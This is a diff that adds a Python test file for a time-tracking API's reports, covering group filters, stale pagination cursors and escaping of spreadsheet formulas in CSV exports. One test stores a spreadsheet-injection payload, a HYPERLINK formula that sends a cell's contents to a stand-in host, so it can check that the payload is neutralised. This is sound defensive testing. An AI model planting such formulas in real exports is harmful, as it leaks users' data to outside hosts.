@@ -1,0 +1,80 @@
+"""Reports v3 edge cases: user groups, stale cursors, spreadsheet formulas in exports."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+from litestar.testing import TestClient
+
+from punchclock.api.reports_v3.exports import safe_cell
+from tests.conftest import API, Account
+
+REPORTS = "/reports/api/v3/workspace"
+RANGE = {"start_date": "2026-11-01", "end_date": "2026-11-30"}
+
+
+def _entry(client: TestClient[Any], who: Account, start: str, description: str = "") -> int:
+    response = client.post(
+        f"{API}/workspaces/{who.workspace_id}/time_entries",
+        json={"start": start, "duration": 600, "description": description, "created_with": "t"},
+        auth=who.auth,
+    )
+    assert response.status_code == 200, response.text
+    return int(response.json()["id"])
+
+
+def _search(client: TestClient[Any], who: Account, body: dict[str, Any]) -> Any:
+    return client.post(
+        f"{REPORTS}/{who.workspace_id}/search/time_entries", json=body, auth=who.auth
+    )
+
+
+def test_group_ids_match_nobody_but_null_matches_everyone(
+    client: TestClient[Any], alice: Account
+) -> None:
+    _entry(client, alice, "2026-11-03T09:00:00Z")
+    # Punchclock has no user groups.
+    assert _search(client, alice, {**RANGE, "group_ids": [5]}).json() == []
+    assert len(_search(client, alice, {**RANGE, "group_ids": [None]}).json()) == 1
+    assert len(_search(client, alice, {**RANGE, "group_ids": []}).json()) == 1
+
+
+def test_a_first_id_cursor_whose_entry_is_gone_continues_by_timestamp(
+    client: TestClient[Any], alice: Account
+) -> None:
+    ids = [_entry(client, alice, f"2026-11-0{day}T09:00:00Z") for day in range(1, 6)]
+    first = _search(client, alice, {**RANGE, "page_size": 2})
+    next_id, next_ts = int(first.headers["X-Next-ID"]), int(first.headers["X-Next-Timestamp"])
+    assert next_id == ids[2]
+    deleted = client.delete(
+        f"{API}/workspaces/{alice.workspace_id}/time_entries/{next_id}", auth=alice.auth
+    )
+    assert deleted.status_code == 200
+    cursor = {**RANGE, "page_size": 2, "first_id": next_id, "first_timestamp": next_ts}
+    second = _search(client, alice, cursor).json()
+    assert [row["time_entries"][0]["id"] for row in second] == [ids[1], ids[0]]
+    # Without the timestamp there is nothing to continue from: a 400, not an empty last page.
+    lost = _search(client, alice, {**RANGE, "page_size": 2, "first_id": next_id})
+    assert lost.status_code == 400
+    assert lost.json().startswith("Invalid 'first_id' value, allowed values are:")
+
+
+def test_csv_cells_never_start_a_formula(client: TestClient[Any], alice: Account) -> None:
+    _entry(client, alice, "2026-11-03T09:00:00Z", '=HYPERLINK("http://x/?"&A1,"x")')
+    _entry(client, alice, "2026-11-04T09:00:00Z", "-5 bugs fixed")
+    response = client.post(
+        f"{REPORTS}/{alice.workspace_id}/search/time_entries.csv", json=RANGE, auth=alice.auth
+    )
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    descriptions = {line[5] for line in lines[1:]}
+    assert descriptions == {'\'=HYPERLINK("http://x/?"&A1,"x")', "'-5 bugs fixed"}
+
+
+def test_safe_cell_leaves_numbers_and_plain_text() -> None:
+    assert safe_cell("-12.50") == "-12.50"
+    assert safe_cell("Plain") == "Plain"
+    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("+1") == "'+1"
+    assert safe_cell(3) == 3
